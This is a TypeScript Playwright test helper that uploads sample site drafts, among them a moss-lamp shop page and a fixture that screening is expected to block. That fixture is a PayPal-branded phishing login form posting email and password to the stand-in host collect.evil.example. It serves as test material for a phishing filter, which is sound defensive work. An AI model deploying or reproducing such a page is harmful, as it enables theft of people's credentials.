import type { Page } from "playwright-core"

type Files = Readonly<Record<string, string | Uint8Array<ArrayBuffer>>>

/** Sends a form with files as the page does; the answer's address is the page of the draft. */
const send = async (
  page: Page,
  path: string,
  field: string,
  files: Files,
  fields: Readonly<Record<string, string>>,
) => {
  const form = new FormData()
  for (const [name, value] of Object.entries(fields)) form.append(name, value)
  for (const [name, content] of Object.entries(files)) form.append(field, new File([content], name))
  const origin = new URL(page.url()).origin
  const response = await page.request.post(path, { multipart: form, headers: { origin }, maxRedirects: 0 })
  return response.headers()["location"] ?? `${response.status()}`
}

/** Makes a draft with these files, as if a person chose a folder. */
export const makeDraft = (page: Page, name: string, files: Files, description = ""): Promise<string> => {
  const inFolder = Object.fromEntries(Object.entries(files).map(([path, content]) => [`site/${path}`, content]))
  return send(page, "/account/drafts", "folder", inFolder, { name_hint: name, description })
}

export const addFiles = (page: Page, draft: string, files: Files): Promise<string> =>
  send(page, draft, "files", files, {})

export const phishing = `<!doctype html><title>PayPal</title><h1>PayPal: log in to your account</h1>
<form action="https://collect.evil.example/next.php" method="post">
  <label>Email <input name="email" type="email"></label> <label>Password <input name="password" type="password"></label>
  <button>Log In</button>
</form>`

const style = (
  colour: string,
) => `body { font-family: system-ui; margin: 4rem auto; max-width: 40rem; color: ${colour} }
h1 { font-size: 3rem }
`

const home = (words: string) => `<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8">
    <title>Moss lamps</title>
    <link rel="stylesheet" href="css/style.css">
  </head>
  <body>
    <h1>Moss lamps</h1>
    <p>${words}</p>
    <p>A lamp that grows. Water it on Sundays.</p>
    <p><a href="about.html">About us</a></p>
    <img src="img/lamp.png" alt="">
  </body>
</html>
`

/** Three drafts, each in a state of its own; the first has versions to compare. */
export const makeDrafts = async (page: Page): Promise<void> => {
  await makeDraft(page, "notes", { "readme.txt": "No start page yet.\n", "todo/later.md": "# Later\n" })
  await makeDraft(page, "paypal-account-check.example", { "index.html": phishing }, "A page that screening stops.")
  const draft = await makeDraft(
    page,
    "mosslamp.com",
    {
      "index.html": home("Light from a forest."),
      "about.html": "<!doctype html><title>About</title><h1>About us</h1>\n",
      "css/style.css": style("#143"),
      "img/lamp.png": Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0, 1),
    },
    "A shop for lamps made of moss.\nFirst idea, to show what the name could become.",
  )
  await addFiles(page, draft, { "index.html": home("Light from the forest floor.") })
  await addFiles(page, draft, {
    "index.html": home("Light from the forest floor, in your room."),
    "a-file-with-a-long-name-that-goes-on-and-on-and-on-until-it-no-longer-fits.txt": "long\n",
  })
}
